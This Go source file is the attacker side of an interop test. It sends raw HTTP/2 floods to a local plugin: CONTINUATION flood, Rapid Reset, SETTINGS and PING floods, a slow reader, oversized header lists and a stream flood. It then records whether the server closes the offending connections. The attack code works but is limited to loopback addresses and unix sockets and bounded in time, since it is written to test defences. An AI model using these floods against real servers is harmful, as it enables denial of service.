// Command attack is the attacker side of tests/interop/attack_test.ts: it
// speaks raw HTTP/2 (golang.org/x/net/http2's Framer and hpack) to one
// plugin address and runs one known HTTP/2 attack, so that the test can prove
// the plugin closes the offending connection or refuses the stream, keeps its
// memory bounded and keeps serving everyone else.
//
// Every attack is bounded in count (-count) and in time (-duration for the
// attack, -wait for watching the reaction; both capped), and the tool only
// dials the address it is given: a unix socket path, or a loopback TCP
// address (127.0.0.0/8, [::1], localhost). Anything else is refused.
//
// Usage:
//
//	attack continuation-flood -addr A [-fragment 0|N] [-count N]  HEADERS without END_HEADERS, then CONTINUATIONs (zero-length, or N-byte pieces of a growing header list), never END_HEADERS
//	attack rapid-reset        -addr A [-count N] [-body]          HEADERS (+ the request message) then RST_STREAM(CANCEL), stream after stream
//	attack settings-flood     -addr A [-count N]                  empty SETTINGS frames; the socket is never read during the flood
//	attack ping-flood         -addr A [-count N]                  PING frames; the socket is never read during the flood
//	attack slow-reader        -addr A [-count N] [-window 0] [-key K]  SETTINGS_INITIAL_WINDOW_SIZE=window, N KV Get calls, no WINDOW_UPDATE, the socket never read while holding
//	attack big-headers        -addr A [-count N] [-over M] [-margin B] [-limit L] [-indexed]  N streams held open with header lists just under the advertised limit, then M just over it
//	attack stream-flood       -addr A [-count N]                  as many concurrent streams (HEADERS, never END_STREAM) as it will take
//
// Common flags: -addr, -duration (default 3s, at most 30s), -wait (default
// 1s, at most 10s), -count. The socket is read for the reaction after a
// flood, for -wait; attacks that are not about unread replies read all along.
//
// It prints exactly one JSON line on stdout: what it sent, how long it took,
// what the server advertised, and how the server reacted (GOAWAY code and
// debug text, RST_STREAM codes, responses, connection closed, a write that
// stalled because the server stopped reading, or nothing), and exits 0. It
// exits 2 on bad flags or a refused address, 3 when its own watchdog fires.
package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sort"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	maxDuration = 30 * time.Second
	maxWait     = 10 * time.Second
	maxCount    = 5_000_000
	dialTimeout = 2 * time.Second
	// How long the server has to send its SETTINGS after our preface.
	settingsTimeout = 2 * time.Second
	// The header list limit assumed when the server advertises none.
	defaultHeaderListLimit = 16 << 20
)

// Default -count per attack.
var defaultCounts = map[string]int{
	"continuation-flood": 100_000,
	"rapid-reset":        200_000,
	"settings-flood":     1_000_000,
	"ping-flood":         1_000_000,
	"slow-reader":        1_000,
	"big-headers":        50,
	"stream-flood":       50_000,
}

var usage = `usage: attack <continuation-flood|rapid-reset|settings-flood|ping-flood|slow-reader|big-headers|stream-flood> -addr ADDR [flags]
ADDR is a unix socket path or a loopback host:port. Run "attack <name> -h" for the flags.`

// goaway is the GOAWAY the server sent.
type goaway struct {
	Code         string `json:"code"`
	Debug        string `json:"debug"`
	LastStreamID uint32 `json:"last_stream_id"`
	AtMs         int64  `json:"at_ms"`
}

// reaction is what the server did, as the socket showed it.
type reaction struct {
	Goaway *goaway `json:"goaway"`
	// RST_STREAM frames received, by error code.
	RstStream map[string]int `json:"rst_stream"`
	// Response HEADERS frames (a trailers-only answer counts in both).
	Headers int `json:"headers"`
	// Responses that ended with the HEADERS frame, by status ("grpc-status 8", ":status 431").
	TrailersOnly map[string]int `json:"trailers_only"`
	DataBytes    int64          `json:"data_bytes"`
	PingAcks     int64          `json:"ping_acks"`
	SettingsAcks int64          `json:"settings_acks"`
	// The server closed the connection (EOF or reset), and when.
	Closed     bool   `json:"closed"`
	ClosedAtMs int64  `json:"closed_at_ms,omitempty"`
	CloseError string `json:"close_error,omitempty"`
	// A frame the Framer could not parse, or another read failure.
	ReadError string `json:"read_error,omitempty"`
}

// result is the one JSON line printed.
type result struct {
	Attack  string         `json:"attack"`
	Network string         `json:"network"`
	Addr    string         `json:"addr"`
	Params  map[string]any `json:"params"`
	// Frames and bytes written, and attack-specific counts.
	Sent map[string]int64 `json:"sent"`
	// How long the sending phase took, and the whole run.
	SendMs  int64 `json:"send_ms"`
	TotalMs int64 `json:"total_ms"`
	// Why writing stopped early (deadline, broken pipe), if it did.
	WriteError string `json:"write_error,omitempty"`
	// When a write was still blocked at the deadline: how long it had been
	// since the last byte went out (the server had stopped reading).
	WriteStalledMs int64             `json:"write_stalled_ms"`
	ServerSettings map[string]uint32 `json:"server_settings"`
	Reaction       reaction          `json:"reaction"`
	Extra          map[string]any    `json:"extra,omitempty"`
	// Summary: "goaway <CODE>", "closed", "rst_stream <CODES>", "writes stalled" (the server
	// stopped reading, on purpose or because it is stuck) or "nothing".
	Verdict string `json:"verdict"`
	Error   string `json:"error,omitempty"`
}

// meter counts what reaches the socket and when the last write finished.
type meter struct {
	conn   net.Conn
	mu     sync.Mutex
	bytes  int64
	lastOK time.Time
}

// Write writes in pieces of at most 4 KiB, so that the time of the last
// piece the kernel took tells when the server stopped reading.
func (m *meter) Write(p []byte) (int, error) {
	done := 0
	for done < len(p) {
		end := min(done+4096, len(p))
		n, err := m.conn.Write(p[done:end])
		done += n
		m.mu.Lock()
		m.bytes += int64(n)
		if err == nil {
			m.lastOK = time.Now()
		}
		m.mu.Unlock()
		if err != nil {
			return done, err
		}
	}
	return done, nil
}

func (m *meter) stats() (int64, time.Time) {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.bytes, m.lastOK
}

// observer reads every frame the server sends and records the reaction.
type observer struct {
	start time.Time
	fr    *http2.Framer
	conn  net.Conn
	mu    sync.Mutex
	r     reaction
	// Streams whose fate is wanted one by one, and what happened to them.
	track   map[uint32]bool
	outcome map[uint32]string
	// RST_STREAM'd stream ids (only while -count is small enough to keep).
	rstIDs  map[uint32]bool
	keepIDs bool
	pingAck chan struct{}
	done    chan struct{}
	// The server's settings, filled in when its SETTINGS frame is read here.
	settings map[string]uint32
}

func newObserver(
	start time.Time,
	fr *http2.Framer,
	conn net.Conn,
	keepIDs bool,
	settings map[string]uint32,
) *observer {
	return &observer{
		settings: settings,
		start:    start,
		fr:       fr,
		conn:     conn,
		r:        reaction{RstStream: map[string]int{}, TrailersOnly: map[string]int{}},
		track:    map[uint32]bool{},
		outcome:  map[uint32]string{},
		rstIDs:   map[uint32]bool{},
		keepIDs:  keepIDs,
		pingAck:  make(chan struct{}, 1),
		done:     make(chan struct{}),
	}
}

func (o *observer) ms() int64 { return time.Since(o.start).Milliseconds() }

func (o *observer) watch(id uint32) {
	o.mu.Lock()
	o.track[id] = true
	o.mu.Unlock()
}

// run reads until the connection ends or the read deadline passes.
func (o *observer) run() {
	defer close(o.done)
	for {
		f, err := o.fr.ReadFrame()
		if err != nil {
			o.mu.Lock()
			var ne net.Error
			switch {
			case errors.As(err, &ne) && ne.Timeout():
				// Our own deadline: the connection is still open.
			case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF), isReset(err):
				o.r.Closed = true
				o.r.ClosedAtMs = o.ms()
				o.r.CloseError = err.Error()
			default:
				o.r.ReadError = err.Error()
				o.r.Closed = true
				o.r.ClosedAtMs = o.ms()
			}
			o.mu.Unlock()
			return
		}
		o.mu.Lock()
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			if o.r.Goaway == nil {
				o.r.Goaway = &goaway{
					Code:         f.ErrCode.String(),
					Debug:        string(f.DebugData()),
					LastStreamID: f.LastStreamID,
					AtMs:         o.ms(),
				}
			} else {
				// A later GOAWAY (e.g. NO_ERROR then the real one): keep the worst.
				if o.r.Goaway.Code == http2.ErrCodeNo.String() {
					o.r.Goaway.Code = f.ErrCode.String()
					o.r.Goaway.Debug = string(f.DebugData())
				}
				o.r.Goaway.LastStreamID = f.LastStreamID
			}
		case *http2.RSTStreamFrame:
			code := f.ErrCode.String()
			o.r.RstStream[code]++
			if o.keepIDs {
				o.rstIDs[f.StreamID] = true
			}
			if o.track[f.StreamID] {
				o.outcome[f.StreamID] = "RST_STREAM " + code
			}
		case *http2.MetaHeadersFrame:
			o.r.Headers++
			if f.StreamEnded() {
				status := "no status"
				if v := f.PseudoValue("status"); v != "" && v != "200" {
					status = ":status " + v
				}
				for _, hf := range f.RegularFields() {
					if hf.Name == "grpc-status" {
						status = "grpc-status " + hf.Value
					}
				}
				o.r.TrailersOnly[status]++
				if o.track[f.StreamID] {
					o.outcome[f.StreamID] = "answered " + status
				}
			}
		case *http2.DataFrame:
			o.r.DataBytes += int64(len(f.Data()))
		case *http2.PingFrame:
			if f.IsAck() {
				o.r.PingAcks++
				select {
				case o.pingAck <- struct{}{}:
				default:
				}
			}
		case *http2.SettingsFrame:
			if f.IsAck() {
				o.r.SettingsAcks++
			} else {
				_ = f.ForeachSetting(func(s http2.Setting) error {
					o.settings[s.ID.String()] = s.Val
					return nil
				})
			}
		}
		o.mu.Unlock()
	}
}

// finish stops reading at `until` (or at once, if it has passed) and returns the reaction.
func (o *observer) finish(until time.Time) reaction {
	_ = o.conn.SetReadDeadline(until)
	<-o.done
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.r
}

func isReset(err error) bool {
	s := err.Error()
	return strings.Contains(s, "connection reset") || strings.Contains(s, "broken pipe")
}

// attack is one run against one connection.
type attack struct {
	name     string
	start    time.Time
	end      time.Time // end of the attack phase
	wait     time.Duration
	count    int
	conn     net.Conn
	m        *meter
	bw       *bufio.Writer
	fr       *http2.Framer
	enc      *hpack.Encoder
	encBuf   bytes.Buffer
	res      *result
	obs      *observer
	settings map[string]uint32
	frames   int64
}

// writeErr records why writing stopped; it returns true when it did.
func (a *attack) writeErr(err error) bool {
	if err == nil {
		return false
	}
	if a.res.WriteError == "" {
		a.res.WriteError = err.Error()
		var ne net.Error
		if errors.As(err, &ne) && ne.Timeout() {
			_, last := a.m.stats()
			if last.IsZero() {
				last = a.start
			}
			a.res.WriteStalledMs = time.Since(last).Milliseconds()
		}
	}
	return true
}

func (a *attack) flush() bool { return a.writeErr(a.bw.Flush()) }

// preface sends the client preface and our SETTINGS.
func (a *attack) preface(settings ...http2.Setting) bool {
	if _, err := a.bw.WriteString(http2.ClientPreface); a.writeErr(err) {
		return false
	}
	if a.writeErr(a.fr.WriteSettings(settings...)) {
		return false
	}
	return !a.flush()
}

// handshake sends the preface, reads the server's SETTINGS, ACKs them and
// starts the observer. It returns false when the server never sent them.
func (a *attack) handshake(keepIDs bool, settings ...http2.Setting) bool {
	if !a.preface(settings...) {
		return false
	}
	_ = a.conn.SetReadDeadline(time.Now().Add(settingsTimeout))
	for {
		f, err := a.fr.ReadFrame()
		if err != nil {
			a.res.Error = "no SETTINGS from the server: " + err.Error()
			a.res.Reaction.Closed = true
			a.res.Reaction.CloseError = err.Error()
			return false
		}
		if sf, ok := f.(*http2.SettingsFrame); ok && !sf.IsAck() {
			_ = sf.ForeachSetting(func(s http2.Setting) error {
				a.settings[s.ID.String()] = s.Val
				return nil
			})
			break
		}
	}
	_ = a.conn.SetReadDeadline(time.Time{})
	if a.writeErr(a.fr.WriteSettingsAck()) || a.flush() {
		return false
	}
	a.startObserver(keepIDs)
	return true
}

func (a *attack) startObserver(keepIDs bool) {
	a.obs = newObserver(a.start, a.fr, a.conn, keepIDs, a.settings)
	go a.obs.run()
}

// react watches the reaction for -wait (starting the observer if the
// attack never read) and fills in the result.
func (a *attack) react() {
	a.res.SendMs = time.Since(a.start).Milliseconds()
	if a.obs == nil {
		// First read after a flood: the server's SETTINGS come first.
		a.startObserver(false)
	}
	a.res.Reaction = a.obs.finish(time.Now().Add(a.wait))
}

// requestFields is a gRPC request's header list for one KV method.
func requestFields(method string) []hpack.HeaderField {
	return []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: "/proto.KV/" + method},
		{Name: ":authority", Value: "localhost"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}
}

// block HPACK-encodes a header list with the connection's encoder.
func (a *attack) block(fields []hpack.HeaderField) []byte {
	a.encBuf.Reset()
	for _, f := range fields {
		_ = a.enc.WriteField(f)
	}
	return bytes.Clone(a.encBuf.Bytes())
}

// getMessage is a length-prefixed gRPC message holding GetRequest{key}.
func getMessage(key string) []byte {
	msg := append([]byte{0x0a, byte(len(key))}, key...)
	out := make([]byte, 5, 5+len(msg))
	binary.BigEndian.PutUint32(out[1:], uint32(len(msg)))
	return append(out, msg...)
}

// headers writes one header block, split into HEADERS + CONTINUATIONs at the server's frame size.
func (a *attack) headers(id uint32, block []byte, endStream bool) bool {
	max := 16384
	if v, ok := a.settings["MAX_FRAME_SIZE"]; ok && v > 0 {
		max = int(v)
	}
	first := block
	if len(first) > max {
		first = block[:max]
	}
	rest := block[len(first):]
	if a.writeErr(a.fr.WriteHeaders(http2.HeadersFrameParam{
		StreamID:      id,
		BlockFragment: first,
		EndStream:     endStream,
		EndHeaders:    len(rest) == 0,
	})) {
		return false
	}
	a.frames++
	for len(rest) > 0 {
		n := min(len(rest), max)
		if a.writeErr(a.fr.WriteContinuation(id, n == len(rest), rest[:n])) {
			return false
		}
		a.frames++
		rest = rest[n:]
	}
	return true
}

func (a *attack) timeUp(i int) bool {
	return i&255 == 0 && time.Now().After(a.end)
}

// ---- the attacks ----

func (a *attack) continuationFlood(fragment int) {
	a.res.Params["fragment"] = fragment
	if !a.handshake(false) {
		return
	}
	if !a.headers1NoEnd(requestFields("Get")) {
		return
	}
	// A header field of exactly 16 bytes (literal, not indexed, new name
	// "x-c", 10-byte value), repeated: fragments slice it anywhere.
	field := []byte{0x00, 3, 'x', '-', 'c', 10, 'a', 'a', 'a', 'a', 'a', 'a', 'a', 'a', 'a', 'a'}
	// Each fragment continues the field where the last one stopped.
	var off int
	piece := make([]byte, fragment)
	sent := 0
	for sent < a.count && !a.timeUp(sent) {
		for j := range piece {
			piece[j] = field[(off+j)%len(field)]
		}
		off = (off + fragment) % len(field)
		if a.writeErr(a.fr.WriteContinuation(1, false, piece)) {
			break
		}
		sent++
		a.frames++
	}
	a.flush()
	a.res.Sent["continuations"] = int64(sent)
	a.res.Sent["header_block_bytes"] = int64(sent * fragment)
	a.react()
}

// headers1NoEnd sends HEADERS on stream 1 without END_HEADERS.
func (a *attack) headers1NoEnd(fields []hpack.HeaderField) bool {
	if a.writeErr(a.fr.WriteHeaders(http2.HeadersFrameParam{
		StreamID:      1,
		BlockFragment: a.block(fields),
	})) {
		return false
	}
	a.frames++
	return true
}

func (a *attack) rapidReset(body bool, key string) {
	a.res.Params["body"] = body
	if !a.handshake(false) {
		return
	}
	fields := requestFields("Get")
	msg := getMessage(key)
	n := 0
	for id := uint32(1); n < a.count && !a.timeUp(n); id += 2 {
		if !a.headers(id, a.block(fields), false) {
			break
		}
		if body {
			if a.writeErr(a.fr.WriteData(id, true, msg)) {
				break
			}
			a.frames++
		}
		if a.writeErr(a.fr.WriteRSTStream(id, http2.ErrCodeCancel)) {
			break
		}
		a.frames++
		n++
		if a.obs.closedNow() {
			break
		}
	}
	a.flush()
	a.res.Sent["streams_reset"] = int64(n)
	a.react()
}

func (o *observer) closedNow() bool {
	select {
	case <-o.done:
		return true
	default:
		return false
	}
}

// flood writes one kind of control frame, never reading.
func (a *attack) flood(write func(i int) error) {
	if !a.preface() {
		a.react()
		return
	}
	n := 0
	for n < a.count && !a.timeUp(n) {
		if a.writeErr(write(n)) {
			break
		}
		n++
		a.frames++
	}
	a.flush()
	a.res.Sent["flood_frames"] = int64(n)
	a.react()
}

func (a *attack) slowReader(window uint32, key string) {
	a.res.Params["window"] = window
	a.res.Params["key"] = key
	if !a.preface(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}) {
		a.react()
		return
	}
	fields := requestFields("Get")
	msg := getMessage(key)
	n := 0
	for id := uint32(1); n < a.count && !a.timeUp(n); id += 2 {
		if !a.headers(id, a.block(fields), false) {
			break
		}
		if a.writeErr(a.fr.WriteData(id, true, msg)) {
			break
		}
		a.frames++
		n++
	}
	a.flush()
	a.res.Sent["calls"] = int64(n)
	// Hold the connection, never reading, until the attack's time is up.
	time.Sleep(time.Until(a.end))
	a.react()
}

// bigList builds a header list of exactly `size` bytes (RFC 9113 6.5.2:
// name + value + 32 per field) whose bulk is one 4 KiB field repeated: as
// literals by default, or (indexed) kept in the encoder's dynamic table and
// repeated as one-byte references, so that a list of megabytes costs a few
// kilobytes on the wire.
func bigList(size int, big hpack.HeaderField) ([]hpack.HeaderField, bool) {
	fields := requestFields("Get")
	for i := range fields {
		fields[i].Sensitive = true // never indexed: the dynamic table holds only `big`
	}
	base := 0
	for _, f := range fields {
		base += int(f.Size())
	}
	filler := hpack.HeaderField{Name: "x-fill", Sensitive: true}
	rest := size - base - int(filler.Size())
	if rest < 0 {
		return nil, false
	}
	k := rest / int(big.Size())
	filler.Value = strings.Repeat("f", rest-k*int(big.Size()))
	for range k {
		fields = append(fields, big)
	}
	return append(fields, filler), true
}

func (a *attack) bigHeaders(over int, margin int, limitFlag int, indexed bool) {
	a.res.Params["indexed"] = indexed
	if !a.handshake(true) {
		return
	}
	limit, source := defaultHeaderListLimit, "default (not advertised)"
	if v, ok := a.settings["MAX_HEADER_LIST_SIZE"]; ok {
		limit, source = int(v), "advertised"
	}
	if limitFlag > 0 {
		limit, source = limitFlag, "flag"
	}
	// 4037 bytes of list (5 + 4000 + 32): fits the default 4096-byte table.
	// Literal (never indexed) unless -indexed: the server then decodes, and
	// holds, every byte anew.
	big := hpack.HeaderField{Name: "x-big", Value: strings.Repeat("b", 4000), Sensitive: !indexed}
	under, ok1 := bigList(limit-margin, big)
	overList, ok2 := bigList(limit+margin, big)
	extra := map[string]any{
		"limit": limit, "limit_source": source,
		"under_list_bytes": limit - margin, "over_list_bytes": limit + margin,
	}
	a.res.Extra = extra
	if !ok1 || !ok2 {
		a.res.Error = fmt.Sprintf("a header list of %d bytes is too small for a request", limit-margin)
		a.react()
		return
	}
	id := uint32(1)
	held, wire := 0, int64(0)
	// Held streams may take 60% of the attack's time; the rest is for the over-limit ones.
	heldUntil := a.start.Add(a.end.Sub(a.start) * 6 / 10)
	for ; held < a.count && time.Now().Before(heldUntil); id += 2 {
		b := a.block(under)
		wire += int64(len(b))
		if !a.headers(id, b, false) || a.flush() {
			break
		}
		held++
	}
	// The over-limit streams and the PING get their own bounded time.
	_ = a.conn.SetWriteDeadline(time.Now().Add(a.wait))
	overIDs := []uint32{}
	extra["first_over_stream_id"] = id
	for range over {
		a.obs.watch(id)
		b := a.block(overList)
		wire += int64(len(b))
		if !a.headers(id, b, false) || a.flush() {
			break
		}
		overIDs = append(overIDs, id)
		id += 2
	}
	a.res.Sent["held_streams"] = int64(held)
	a.res.Sent["over_streams"] = int64(len(overIDs))
	a.res.Sent["header_block_wire_bytes"] = wire
	// Is the connection still alive after the over-limit streams?
	alive := false
	if a.res.WriteError == "" && !a.writeErr(a.fr.WritePing(false, [8]byte{'a', 'l', 'i', 'v', 'e'})) &&
		!a.flush() {
		select {
		case <-a.obs.pingAck:
			alive = true
		case <-a.obs.done:
		case <-time.After(time.Until(a.end) + a.wait):
		}
	}
	extra["alive_after_over"] = alive
	time.Sleep(time.Until(a.end))
	a.react()
	outcomes := map[string]int{}
	heldReset := 0
	for _, oid := range overIDs {
		o := a.obs.outcome[oid]
		if o == "" {
			o = "nothing"
		}
		outcomes[o]++
	}
	for rid := range a.obs.rstIDs {
		if !a.obs.track[rid] {
			heldReset++
		}
	}
	extra["over_outcomes"] = outcomes
	extra["held_streams_reset"] = heldReset
}

func (a *attack) streamFlood() {
	if !a.handshake(true) {
		return
	}
	fields := requestFields("Get")
	n := 0
	id := uint32(1)
	for ; n < a.count && !a.timeUp(n); id += 2 {
		if !a.headers(id, a.block(fields), false) {
			break
		}
		n++
		if n%1024 == 0 {
			if a.flush() || a.obs.closedNow() {
				break
			}
		}
	}
	a.flush()
	a.res.Sent["streams_opened"] = int64(n)
	a.react()
	reset := len(a.obs.rstIDs)
	accepted := n - reset
	if g := a.res.Reaction.Goaway; g != nil {
		// Streams above the GOAWAY's last id were never processed.
		accepted = 0
		for s := uint32(1); s <= g.LastStreamID && s < id; s += 2 {
			if !a.obs.rstIDs[s] {
				accepted++
			}
		}
	}
	a.res.Extra = map[string]any{"streams_accepted": accepted, "streams_reset": reset}
}

// ---- main ----

// dial connects to a unix socket path or a loopback TCP address, nothing else.
func dial(addr string) (net.Conn, string, error) {
	if strings.HasPrefix(addr, "/") || strings.HasPrefix(addr, "./") {
		c, err := net.DialTimeout("unix", addr, dialTimeout)
		return c, "unix", err
	}
	host, port, err := net.SplitHostPort(addr)
	if err != nil {
		return nil, "", fmt.Errorf("-addr %q is neither a socket path nor host:port: %w", addr, err)
	}
	ip := net.ParseIP(host)
	if host == "localhost" {
		ip = net.IPv4(127, 0, 0, 1)
	}
	if ip == nil || !ip.IsLoopback() {
		return nil, "", fmt.Errorf("refusing to attack %q: only loopback addresses and unix sockets", addr)
	}
	c, err := net.DialTimeout("tcp", net.JoinHostPort(ip.String(), port), dialTimeout)
	return c, "tcp", err
}

func verdict(res *result) string {
	r := res.Reaction
	switch {
	case r.Goaway != nil:
		return "goaway " + r.Goaway.Code
	case r.Closed:
		return "closed"
	case len(r.RstStream) > 0:
		codes := []string{}
		for c := range r.RstStream {
			codes = append(codes, c)
		}
		sort.Strings(codes)
		return "rst_stream " + strings.Join(codes, ",")
	case res.WriteStalledMs >= 500:
		return "writes stalled"
	default:
		return "nothing"
	}
}

func emit(res *result) {
	line, _ := json.Marshal(res)
	fmt.Println(string(line))
}

func main() {
	if len(os.Args) < 2 || strings.HasPrefix(os.Args[1], "-") {
		fmt.Fprintln(os.Stderr, usage)
		os.Exit(2)
	}
	name := os.Args[1]
	if _, ok := defaultCounts[name]; !ok {
		fmt.Fprintf(os.Stderr, "unknown attack %q\n%s\n", name, usage)
		os.Exit(2)
	}
	fs := flag.NewFlagSet(name, flag.ExitOnError)
	addr := fs.String("addr", "", "unix socket path or loopback host:port (required)")
	duration := fs.Duration("duration", 3*time.Second, "length of the attack phase (at most 30s)")
	wait := fs.Duration("wait", time.Second, "how long to watch the reaction afterwards (at most 10s)")
	count := fs.Int("count", 0, "frames or streams to send (0: the attack's default)")
	fragment := fs.Int("fragment", 0, "continuation-flood: bytes per CONTINUATION (0: empty frames)")
	body := fs.Bool("body", true, "rapid-reset: send the request message before the RST_STREAM")
	key := fs.String("key", "k", "rapid-reset, slow-reader: the KV key asked for")
	window := fs.Uint("window", 0, "slow-reader: our SETTINGS_INITIAL_WINDOW_SIZE")
	over := fs.Int("over", 3, "big-headers: streams with a header list over the limit")
	margin := fs.Int("margin", 1024, "big-headers: bytes under and over the limit")
	limit := fs.Int("limit", 0, "big-headers: the limit to aim at (0: the server's advertised one)")
	indexed := fs.Bool("indexed", false, "big-headers: repeat one dynamic-table entry instead of literals (tiny on the wire)")
	_ = fs.Parse(os.Args[2:])
	if *addr == "" || fs.NArg() > 0 {
		fmt.Fprintln(os.Stderr, usage)
		os.Exit(2)
	}
	if *count <= 0 {
		*count = defaultCounts[name]
	}
	*count = min(*count, maxCount)
	*duration = min(max(*duration, 0), maxDuration)
	*wait = min(max(*wait, 0), maxWait)
	if *fragment < 0 || *fragment > 16384 || *window > 1<<31-1 {
		fmt.Fprintln(os.Stderr, "-fragment must be 0..16384 and -window at most 2^31-1")
		os.Exit(2)
	}

	start := time.Now()
	res := &result{
		Attack: name, Addr: *addr,
		Params: map[string]any{
			"count": *count, "duration_ms": duration.Milliseconds(), "wait_ms": wait.Milliseconds(),
		},
		Sent:           map[string]int64{},
		ServerSettings: map[string]uint32{},
		Reaction:       reaction{RstStream: map[string]int{}, TrailersOnly: map[string]int{}},
	}
	// Whatever the server does, this process ends.
	watchdog := time.AfterFunc(*duration+*wait+5*time.Second, func() {
		emit(&result{Attack: name, Addr: *addr, Error: "watchdog: the attack overran its time bound", Verdict: "unknown"})
		os.Exit(3)
	})
	defer watchdog.Stop()

	conn, network, err := dial(*addr)
	res.Network = network
	if err != nil {
		if network == "" {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		res.Error = "dial: " + err.Error()
		res.Verdict = "unknown"
		emit(res)
		return
	}
	defer conn.Close()
	// The test waits for this line to start its legitimate calls during the attack.
	fmt.Fprintln(os.Stderr, "attacker: connected")
	m := &meter{conn: conn}
	bw := bufio.NewWriterSize(m, 64<<10)
	fr := http2.NewFramer(bw, bufio.NewReaderSize(conn, 64<<10))
	fr.AllowIllegalWrites = true
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	fr.MaxHeaderListSize = 64 << 20
	a := &attack{
		name: name, start: start, end: start.Add(*duration), wait: *wait, count: *count,
		conn: conn, m: m, bw: bw, fr: fr, res: res, settings: res.ServerSettings,
	}
	a.enc = hpack.NewEncoder(&a.encBuf)
	// No write outlives the attack phase, whatever the server does.
	_ = conn.SetWriteDeadline(a.end)

	switch name {
	case "continuation-flood":
		a.continuationFlood(*fragment)
	case "rapid-reset":
		a.rapidReset(*body, *key)
	case "settings-flood":
		a.flood(func(int) error { return fr.WriteSettings() })
	case "ping-flood":
		a.flood(func(i int) error {
			var data [8]byte
			binary.BigEndian.PutUint64(data[:], uint64(i))
			return fr.WritePing(false, data)
		})
	case "slow-reader":
		a.slowReader(uint32(*window), *key)
	case "big-headers":
		a.bigHeaders(*over, *margin, *limit, *indexed)
	case "stream-flood":
		a.streamFlood()
	}
	if a.obs == nil {
		// Never got as far as reading (no SETTINGS from the server).
		a.res.SendMs = time.Since(start).Milliseconds()
	}
	bytesOut, _ := m.stats()
	res.Sent["frames"] = a.frames
	res.Sent["bytes"] = bytesOut
	res.TotalMs = time.Since(start).Milliseconds()
	res.Verdict = verdict(res)
	emit(res)
}
